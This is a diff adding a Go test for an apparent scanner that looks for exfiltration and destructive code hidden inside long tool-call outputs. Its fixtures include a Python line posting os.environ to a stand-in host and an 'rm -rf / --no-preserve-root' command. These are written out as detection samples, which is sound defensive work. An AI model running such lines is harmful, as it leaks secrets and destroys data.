@@ -110,3 +110,48 @@ func FuzzHasFlag(f *testing.F) {
 		}
 	})
 }
+
+// TestExfilCodeInLongStrings: on strings past codeLong the code patterns run only near their
+// literals; what they find there must be what a whole scan finds, wherever it sits, and a
+// megabyte of noise must be scanned in linear time.
+func TestExfilCodeInLongStrings(t *testing.T) {
+	noise := strings.Repeat("lorem ipsum dolor sit amet, consectetur adipiscing elit; ", (codeLong*3)/56)
+	code := "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environ))\n"
+	harm := "echo done; rm -rf / --no-preserve-root\n"
+	for _, tc := range []struct {
+		name, raw string
+		want      []kindLevel
+	}{
+		{"exfil at start", code + noise, []kindLevel{{KindExfilCode, threat.Medium}}},
+		{"exfil in middle", noise[:codeLong] + code + noise[codeLong:], []kindLevel{{KindExfilCode, threat.Medium}}},
+		{"exfil at end", noise + code, []kindLevel{{KindExfilCode, threat.Medium}}},
+		{"source and sink far apart", "x = os.environ\n" + noise + "requests.post(u, data=x)\n", []kindLevel{{KindExfilCode, threat.Medium}}},
+		{"harm in middle", noise[:codeLong+7] + harm + noise[codeLong:], []kindLevel{{KindMaliciousCode, threat.Medium}}},
+		{"noise alone", noise, nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg := Config{}
+			cfg.withDefaults()
+			v := testValue("$.text", "text", tc.raw)
+			var got []kindLevel
+			exfilDetector{}.code(&Call{Tool: "read_file", Direction: Response, Size: len(tc.raw), Config: &cfg}, &v, func(f Finding) {
+				got = append(got, kindLevel{f.Kind, f.Severity})
+			})
+			if !equalKinds(got, tc.want) {
+				t.Errorf("got %v, want %v", got, tc.want)
+			}
+		})
+	}
+}
+
+func equalKinds(a, b []kindLevel) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}
